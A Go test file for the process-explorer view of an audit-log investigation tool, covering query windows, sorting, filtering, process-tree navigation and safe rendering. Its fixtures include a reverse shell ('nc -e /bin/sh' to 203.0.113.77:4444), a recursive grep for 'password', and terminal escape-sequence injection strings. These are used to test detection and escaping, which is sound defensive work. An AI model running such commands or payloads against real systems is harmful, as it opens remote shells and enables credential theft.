package explorer

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/auditlens/auditlens/views/internal/viewtest"
	"github.com/auditlens/auditlens/views/model"
	"github.com/auditlens/auditlens/views/view"
	"github.com/muesli/termenv"
)

var t0 = time.Date(2026, 11, 2, 3, 0, 0, 0, time.UTC)

func proc(min int, exe string, pid, ppid int64, args ...string) model.Process {
	return model.Process{Time: t0.Add(time.Duration(min) * time.Minute), Host: "web-03", Executable: exe,
		Args: append([]string{exe}, args...), User: "root", AuditUser: "alice", PID: pid, PPID: ppid,
		WorkingDir: "/root", Result: "success"}
}

// processes: a login shell long before the window, its commands in the
// window, the rare nc, and a child of nc.
func processes() []model.Process {
	return []model.Process{
		proc(-300, "/usr/bin/bash", 4002, 1, "-l"),
		proc(-50, "/usr/sbin/cron", 5001, 1, "-f"),
		proc(-20, "/usr/bin/ls", 5002, 4002, "-la"),
		proc(5, "/usr/bin/grep", 5003, 4002, "-r", "password"),
		proc(7, "/usr/bin/nc", 5004, 4002, "-e", "/bin/sh", "203.0.113.77", "4444"),
		proc(8, "/bin/sh", 5005, 5004),
		proc(9, "/usr/bin/id", 5006, 5005),
		proc(40, "/usr/bin/sudo", 5007, 4002, "systemctl", "restart", "nginx"),
		proc(300, "/usr/bin/ls", 5008, 4002),
	}
}

func newExplorer(t *testing.T, b *viewtest.Backend, w, h int, tg Target) (*Model, *view.Context) {
	t.Helper()
	ctx := &view.Context{Theme: view.PlainTheme(), Location: time.UTC}
	m := New(ctx, tg)
	m.SetSize(w, h)
	v, _ := viewtest.Drive(t, m, b, m.Init())
	return v.(*Model), ctx
}

func around() Target {
	return Around(model.ScopeHost, "web-03", "", t0, t0.Add(15*time.Minute))
}

func TestLoadsTheWindowAndSelectsTheMoment(t *testing.T) {
	b := &viewtest.Backend{Processes: processes()}
	tg := around()
	tg.Focus = t0.Add(6 * time.Minute)
	m, _ := newExplorer(t, b, 100, 20, tg)
	q := b.ProcessQs[0]
	if !q.From.Equal(t0.Add(-time.Hour)) || !q.To.Equal(t0.Add(15*time.Minute+time.Hour)) || q.Entity != "web-03" ||
		q.Limit != model.DefaultProcessLimit || !q.Around.Equal(tg.Focus) {
		t.Errorf("asked %+v", q)
	}
	if got := len(m.page.Rows); got != 7 {
		t.Errorf("%d rows in the window, want 7", got)
	}
	if p := m.selected(); p == nil || p.PID != 5004 {
		t.Errorf("selected %+v, want the first execution at or after the moment (nc)", p)
	}
	if ft, _ := m.FocusTime(); !ft.Equal(t0.Add(7 * time.Minute)) {
		t.Errorf("focus time %v", ft)
	}
}

func TestWindowKeys(t *testing.T) {
	tests := []struct {
		keys     []string
		from, to time.Duration // relative to t0
		limit    int
		exe      string
	}{
		{[]string{"w"}, -2 * time.Hour, 15*time.Minute + 2*time.Hour, model.DefaultProcessLimit, ""},
		{[]string{"W"}, -30 * time.Minute, 45 * time.Minute, model.DefaultProcessLimit, ""},
		{[]string{"W", "W", "W", "W", "W"}, -5 * time.Minute, 20 * time.Minute, model.DefaultProcessLimit, ""},
		{[]string{">"}, 7*time.Minute + 30*time.Second, 142*time.Minute + 30*time.Second, model.DefaultProcessLimit, ""},
		{[]string{"<"}, -127*time.Minute - 30*time.Second, 7*time.Minute + 30*time.Second, model.DefaultProcessLimit, ""},
		{[]string{"+"}, -time.Hour, 75 * time.Minute, 5000, ""},
		{[]string{"+", "+", "+", "+"}, -time.Hour, 75 * time.Minute, 100000, ""},
		{[]string{"e"}, -time.Hour, 75 * time.Minute, model.DefaultProcessLimit, "/usr/bin/grep"},
		{[]string{"e", "e"}, -time.Hour, 75 * time.Minute, model.DefaultProcessLimit, ""},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.keys, ""), func(t *testing.T) {
			b := &viewtest.Backend{Processes: processes()}
			m, _ := newExplorer(t, b, 100, 20, around())
			viewtest.Keys(t, m, b, tt.keys...)
			q := b.ProcessQs[len(b.ProcessQs)-1]
			if !q.From.Equal(t0.Add(tt.from)) || !q.To.Equal(t0.Add(tt.to)) || q.Limit != tt.limit || q.Executable != tt.exe {
				t.Errorf("last query %s–%s limit %d exe %q; want %s–%s %d %q", q.From.Sub(t0), q.To.Sub(t0), q.Limit,
					q.Executable, tt.from, tt.to, tt.limit, tt.exe)
			}
		})
	}
}

func TestWideningKeepsTheSelectedProcess(t *testing.T) {
	b := &viewtest.Backend{Processes: processes()}
	m, _ := newExplorer(t, b, 100, 20, around())
	viewtest.Keys(t, m, b, "j", "j") // grep, nc, sh
	want := m.selected().PID
	viewtest.Keys(t, m, b, "w", "w", "w")
	if p := m.selected(); p == nil || p.PID != want {
		t.Errorf("selected %+v after widening, want pid %d", p, want)
	}
}

func TestSortKeys(t *testing.T) {
	b := &viewtest.Backend{Processes: processes()}
	m, _ := newExplorer(t, b, 100, 20, around())
	order := func() []int64 {
		var out []int64
		for _, i := range m.shown {
			out = append(out, m.page.Rows[i].PID)
		}
		return out
	}
	if got := fmt.Sprint(order()); got != "[5001 5002 5003 5004 5005 5006 5007]" {
		t.Errorf("by time: %s", got)
	}
	_, msgs := viewtest.Keys(t, m, b, "o", "o", "o") // user, pid, ppid
	if m.sortCol != ColPPID || fmt.Sprint(viewtest.Notices(msgs)) != "[sorted by user sorted by pid sorted by ppid]" {
		t.Errorf("sort column %v, notices %q", m.sortCol, viewtest.Notices(msgs))
	}
	if got := fmt.Sprint(order()); got != "[5001 5002 5003 5004 5007 5005 5006]" {
		t.Errorf("by ppid (then time): %s", got)
	}
	viewtest.Keys(t, m, b, "O")
	if got := fmt.Sprint(order()); got != "[5006 5005 5007 5004 5003 5002 5001]" {
		t.Errorf("by ppid, reversed: %s", got)
	}
	if !strings.Contains(m.View(), "ppid↓") {
		t.Errorf("the header does not mark the sort:\n%s", m.View())
	}
}

func TestFilter(t *testing.T) {
	b := &viewtest.Backend{Processes: processes()}
	m, _ := newExplorer(t, b, 100, 20, around())
	viewtest.Send(t, m, b, viewtest.Filter("203\\.0\\.113"))
	if len(m.shown) != 1 || m.selected().PID != 5004 || m.Filter() != "203\\.0\\.113" {
		t.Fatalf("filter on arguments kept %d rows", len(m.shown))
	}
	if !strings.Contains(m.View(), "1/7 executions") {
		t.Errorf("summary does not count the filter:\n%s", m.View())
	}
	viewtest.Send(t, m, b, viewtest.Filter("^/usr/bin/(ls|grep|id)$"))
	viewtest.Send(t, m, b, view.StepMatchMsg{})
	// nc, selected, is filtered out: the first match is selected, n steps.
	if m.selected().PID != 5003 {
		t.Errorf("n went to %d", m.selected().PID)
	}
	viewtest.Send(t, m, b, view.FilterMsg{})
	if len(m.shown) != 7 || m.Filter() != "" {
		t.Errorf("clearing the filter left %d rows", len(m.shown))
	}
}

func TestParentAndChildren(t *testing.T) {
	b := &viewtest.Backend{Processes: processes()}
	m, _ := newExplorer(t, b, 100, 20, around())
	viewtest.Keys(t, m, b, "j", "j", "j") // id (5006), child of sh (5005)
	if m.selected().PID != 5006 {
		t.Fatalf("selected %d", m.selected().PID)
	}
	// The parent is in the rows: the cursor goes there.
	_, msgs := viewtest.Keys(t, m, b, "P")
	if m.selected().PID != 5005 || len(viewtest.Pushed(msgs)) != 0 {
		t.Errorf("P went to %d (pushed %d)", m.selected().PID, len(viewtest.Pushed(msgs)))
	}
	// A filter hiding the parent is cleared to show it.
	viewtest.Keys(t, m, b, "j") // id again
	viewtest.Send(t, m, b, viewtest.Filter("^/usr/bin/id$"))
	_, msgs = viewtest.Keys(t, m, b, "P")
	if m.selected().PID != 5005 || m.Filter() != "" || !strings.Contains(fmt.Sprint(viewtest.Notices(msgs)), "filter cleared") {
		t.Errorf("P under a filter: at %d, filter %q, %q", m.selected().PID, m.Filter(), viewtest.Notices(msgs))
	}
	// nc's parent, the login shell, ran before the window: asked of the
	// backend and opened in an explorer of its own.
	viewtest.Keys(t, m, b, "P") // sh to nc
	_, msgs = viewtest.Keys(t, m, b, "P")
	pushed := viewtest.Pushed(msgs)
	if len(pushed) != 1 {
		t.Fatalf("P for a parent outside the window pushed %d screens; notices %q", len(pushed), viewtest.Notices(msgs))
	}
	q := b.ProcessQs[len(b.ProcessQs)-1]
	if q.PID != 4002 || !q.Newest || q.Limit != 1 || !q.To.After(t0.Add(7*time.Minute)) {
		t.Errorf("parent asked as %+v", q)
	}
	parent := pushed[0].(*Model)
	if parent.Title() != "pid 4002" {
		t.Errorf("parent title %q", parent.Title())
	}
	parent.SetSize(100, 20)
	viewtest.Drive(t, parent, b, parent.Init())
	if p := parent.selected(); p == nil || p.PID != 4002 || p.Executable != "/usr/bin/bash" {
		t.Errorf("parent explorer selected %+v", p)
	}
	// The shell's children, from its start on.
	_, msgs = viewtest.Keys(t, parent, b, "C")
	pushed = viewtest.Pushed(msgs)
	if len(pushed) != 1 {
		t.Fatal("C pushed nothing")
	}
	kids := pushed[0].(*Model)
	kids.SetSize(100, 20)
	viewtest.Drive(t, kids, b, kids.Init())
	if kids.Title() != "children of 4002" {
		t.Errorf("children title %q", kids.Title())
	}
	for _, p := range kids.page.Rows {
		if p.PPID != 4002 || p.Time.Before(t0.Add(-300*time.Minute)) {
			t.Errorf("child %+v", p)
		}
	}
	if len(kids.page.Rows) != 4 {
		t.Errorf("%d children in the six hours after the shell, want ls, grep, nc and sudo", len(kids.page.Rows))
	}
}

func TestNoParentInTheData(t *testing.T) {
	b := &viewtest.Backend{Processes: processes()}
	tg := around()
	tg.CoreFrom, tg.Focus = t0.Add(-50*time.Minute), t0.Add(-50*time.Minute)
	m, _ := newExplorer(t, b, 100, 20, tg)
	if m.selected().PID != 5001 {
		t.Fatalf("selected %d, want cron", m.selected().PID)
	}
	_, msgs := viewtest.Keys(t, m, b, "P")
	if len(viewtest.Pushed(msgs)) != 0 || !strings.Contains(fmt.Sprint(viewtest.Notices(msgs)), "no execution of pid 1") {
		t.Errorf("P for an absent parent: %q", viewtest.Notices(msgs))
	}
}

func TestDetail(t *testing.T) {
	b := &viewtest.Backend{Processes: processes()}
	m, ctx := newExplorer(t, b, 80, 20, around())
	viewtest.Keys(t, m, b, "j")
	_, msgs := viewtest.Keys(t, m, b, "enter")
	pushed := viewtest.Pushed(msgs)
	if len(pushed) != 1 {
		t.Fatal("enter opened nothing")
	}
	d := pushed[0].(*Detail)
	d.SetSize(80, 20)
	out := d.View()
	for _, want := range []string{"/usr/bin/nc", "pid         5004", "ppid        4002", "audit user  alice", "argv[3]     203.0.113.77", "cwd         /root"} {
		if !strings.Contains(out, want) {
			t.Errorf("detail lacks %q:\n%s", want, out)
		}
	}
	if d.Title() != "pid 5004" {
		t.Errorf("title %q", d.Title())
	}
	// P from the detail opens the parent's detail (asked of the backend).
	_, msgs = viewtest.Keys(t, d, b, "P")
	if p := viewtest.Pushed(msgs); len(p) != 1 || p[0].(*Detail).p.PID != 4002 {
		t.Errorf("P from the detail pushed %v", p)
	}
	_, msgs = viewtest.Keys(t, d, b, "C")
	if p := viewtest.Pushed(msgs); len(p) != 1 || p[0].(*Model).target.ChildrenOf != 5004 {
		t.Errorf("C from the detail pushed %v", p)
	}
	text, what, ok := d.Yank()
	if !ok || what != "process" || !strings.Contains(text, `"process.parent.pid": 4002`) {
		t.Errorf("yank %q %v:\n%s", what, ok, text)
	}
	_ = ctx
}

func TestDetailWrapsLongArguments(t *testing.T) {
	p := proc(0, "/usr/bin/python3", 1, 0, "-c", strings.Repeat("import os; ", 30))
	lines := DetailLines(p, 50, view.PlainTheme(), time.UTC)
	long := 0
	for _, l := range lines {
		if view.Width(l) > 50 {
			t.Errorf("line wider than 50: %q", l)
		}
		if strings.Contains(l, "import os") {
			long++
		}
	}
	if long < 5 {
		t.Errorf("the long argument took %d lines, want it wrapped in full", long)
	}
	if !strings.Contains(strings.Join(lines, "\n"), "ppid        0") {
		t.Error("ppid 0 left out")
	}
}

func TestTruncatedNote(t *testing.T) {
	var rows []model.Process
	for i := 0; i < model.DefaultProcessLimit+100; i++ {
		rows = append(rows, proc(0, "/usr/bin/true", int64(6000+i), 4002))
		rows[i].Time = t0.Add(time.Duration(i) * time.Second)
	}
	b := &viewtest.Backend{Processes: rows}
	m, _ := newExplorer(t, b, 100, 20, around())
	if !m.page.Truncated || len(m.page.Rows) != model.DefaultProcessLimit {
		t.Fatalf("%d rows, truncated %v", len(m.page.Rows), m.page.Truncated)
	}
	out := m.View()
	if !strings.Contains(out, "truncated at 1,000 rows") || !strings.Contains(out, "+ shows up to 5,000") {
		t.Errorf("no truncation note:\n%s", out)
	}
	if st := m.Status(); !strings.Contains(st.Counts, "1,000 executions (capped)") {
		t.Errorf("status %q", st.Counts)
	}
	viewtest.Keys(t, m, b, "+")
	if m.page.Truncated || len(m.page.Rows) != len(rows) || strings.Contains(m.View(), "truncated") {
		t.Errorf("after +: %d rows, truncated %v", len(m.page.Rows), m.page.Truncated)
	}
}

func TestViewFitsEverySize(t *testing.T) {
	b := &viewtest.Backend{Processes: processes()}
	for _, th := range []*view.Theme{view.PlainTheme(), view.NewTheme(termenv.TrueColor, true)} {
		for _, sz := range [][2]int{{80, 21}, {120, 37}, {40, 5}, {20, 3}, {200, 60}, {1, 1}} {
			ctx := &view.Context{Theme: th, Location: time.UTC}
			m := New(ctx, around())
			m.SetSize(sz[0], sz[1])
			viewtest.Drive(t, m, b, m.Init())
			assertFits(t, m.View(), sz[0], sz[1])
			d := NewDetail(ctx, around(), processes()[4])
			d.SetSize(sz[0], sz[1])
			assertFits(t, d.View(), sz[0], sz[1])
		}
	}
}

func assertFits(t *testing.T, frame string, w, h int) {
	t.Helper()
	lines := strings.Split(frame, "\n")
	if len(lines) > h {
		t.Errorf("%d lines for %dx%d", len(lines), w, h)
	}
	for i, l := range lines {
		if n := view.Width(l); n > w {
			t.Errorf("line %d is %d wide for %dx%d: %q", i, n, w, h, l)
		}
	}
}

func TestHostileDataIsDrawnHarmless(t *testing.T) {
	evil := model.Process{Time: t0.Add(time.Minute), Host: "web-03", Executable: "/tmp/\x1b]0;owned\x07x",
		Args: []string{"/tmp/x", "\x1b[31mred\u202eevil\x9b2J", "\u2066hidden"}, User: "r\x1b[8moot", AuditUser: "\x07bell",
		WorkingDir: "/tmp/\x00nul\u200b", Result: "\x1b[0mok", PID: 66, PPID: 1, Name: "\x1b[Kname", Title: "\x1bPtitle",
		Origin: model.ProcessOrigin{File: "/var/log/\x1b[2Jaudit.log", Line: 3}}
	b := &viewtest.Backend{Processes: []model.Process{evil}}
	m, ctx := newExplorer(t, b, 120, 20, around())
	frames := []string{m.View()}
	d := NewDetail(ctx, around(), evil)
	d.SetSize(120, 30)
	frames = append(frames, d.View())
	text, _, _ := m.Yank()
	frames = append(frames, text)
	for i, f := range frames {
		if viewtest.HasControl(f) {
			t.Errorf("frame %d draws a control character from the data:\n%q", i, f)
		}
	}
	if !strings.Contains(frames[0], `\x1b]0;owned\x07x`) || !strings.Contains(frames[1], `r\x1b[8moot`) {
		t.Errorf("hostile fields not shown escaped:\n%s\n%s", frames[0], frames[1])
	}
}

func TestLayoutTable(t *testing.T) {
	content := [numColumns]int{8, 12, 4, 4, 30, 80, 20, 4}
	tests := []struct {
		width int
		want  []Column
	}{
		{120, []Column{ColTime, ColUser, ColPID, ColPPID, ColExecutable, ColArgs, ColCwd, ColResult}},
		{80, []Column{ColTime, ColUser, ColPID, ColPPID, ColExecutable, ColArgs, ColCwd, ColResult}},
		{60, []Column{ColTime, ColUser, ColPID, ColPPID, ColExecutable, ColArgs}},
		{40, []Column{ColTime, ColUser, ColExecutable, ColArgs}},
		{20, []Column{ColTime, ColArgs}},
	}
	for _, tt := range tests {
		cols := layoutTable(tt.width, 8, content)
		var got []Column
		used := 1
		for i, c := range cols {
			got = append(got, c.col)
			if i > 0 {
				used++
			}
			used += c.width
			if c.width < c.spec.min {
				t.Errorf("width %d: %s narrower than its minimum", tt.width, c.col)
			}
		}
		if fmt.Sprint(got) != fmt.Sprint(tt.want) {
			t.Errorf("width %d: columns %v, want %v", tt.width, got, tt.want)
		}
		if used > tt.width {
			t.Errorf("width %d: used %d", tt.width, used)
		}
		if tt.width >= 80 && used != tt.width {
			t.Errorf("width %d: the arguments did not take the rest (%d used)", tt.width, used)
		}
	}
}

func TestTextOf(t *testing.T) {
	tests := []struct {
		p    model.Process
		col  Column
		want string
	}{
		{model.Process{User: "root", AuditUser: "alice"}, ColUser, "root (alice)"},
		{model.Process{User: "alice", AuditUser: "alice"}, ColUser, "alice"},
		{model.Process{UserID: "1001"}, ColUser, "1001"},
		{model.Process{Result: "success"}, ColResult, "ok"},
		{model.Process{Result: "fail"}, ColResult, "FAIL"},
		{model.Process{Result: "\x1b[0m"}, ColResult, `\x1b[0m`},
		{model.Process{Args: []string{"a", "b\nc"}}, ColArgs, `a b\nc`},
		{model.Process{PID: 42}, ColPID, "42"},
		{model.Process{Time: t0.Add(90 * time.Second)}, ColTime, "03:01:30"},
	}
	for _, tt := range tests {
		got := textOf(&tt.p, time.UTC, timeLayout(false))[tt.col]
		if got != tt.want {
			t.Errorf("%s of %+v = %q, want %q", tt.col, tt.p, got, tt.want)
		}
	}
	if got := textOf(&model.Process{Time: t0}, time.UTC, timeLayout(true))[ColTime]; got != "Nov 02 03:00:00" {
		t.Errorf("dated time %q", got)
	}
}

func TestPickAndParentIndex(t *testing.T) {
	rows := processes()
	if got := pick(rows, t0.Add(6*time.Minute), 0); rows[got].PID != 5004 {
		t.Errorf("pick by time gave %d", rows[got].PID)
	}
	if got := pick(rows, t0, 4002); rows[got].PID != 4002 {
		t.Errorf("pick by pid gave %d", rows[got].PID)
	}
	if got := pick(rows, t0.Add(24*time.Hour), 0); got != len(rows)-1 {
		t.Errorf("pick after the end gave %d", got)
	}
	if got := pick(nil, t0, 0); got != -1 {
		t.Errorf("pick of nothing gave %d", got)
	}
	if got := parentIndex(rows, rows[6]); got < 0 || rows[got].PID != 5005 {
		t.Errorf("parent of id: %d", got)
	}
	// A pid reused later is not the parent.
	late := append(rows, proc(20, "/usr/bin/reused", 5005, 1))
	if got := parentIndex(late, rows[6]); late[got].Executable != "/bin/sh" {
		t.Errorf("parent of id with a reused pid: %s", late[got].Executable)
	}
	if got := parentIndex(rows, rows[0]); got != -1 {
		t.Errorf("parent of the shell: %d", got)
	}
}

func TestRowFilter(t *testing.T) {
	p := proc(7, "/usr/bin/NC", 5004, 4002, "-e", "/bin/sh", "Password")
	p.AuditUser = "alice"
	tests := []struct {
		pattern string
		want    bool
	}{
		{"(?i)nc", true},            // smart case: lower-case pattern, any case
		{"(?i)^/usr/bin/nc$", true}, // anchors hold within a field
		{"(?i)^/bin/sh$", true},     // an argument is a field of its own
		{"(?i)^-e /bin/sh$", false}, // fields are not joined by spaces
		{"password", false},         // case-sensitive
		{"Password", true},          //
		{"^5004$", true},            // pids are fields
		{"^400$", false},            //
		{`(?i)\Spassword`, false},   // upper-case escapes keep the real case-insensitive run
		{`(?i)^\Sassword$`, true},   //
		{"(?i)alice", true},         // the login user
		{"(?i)[a-z]+/nc", true},     // a class of lower case letters matches any case
		{"(?i)zzz", false},          //
	}
	for _, tt := range tests {
		if got := matches(&p, regexp.MustCompile(tt.pattern)); got != tt.want {
			t.Errorf("%q: %v, want %v", tt.pattern, got, tt.want)
		}
	}
	if !matches(&p, nil) {
		t.Error("no filter keeps every row")
	}
}
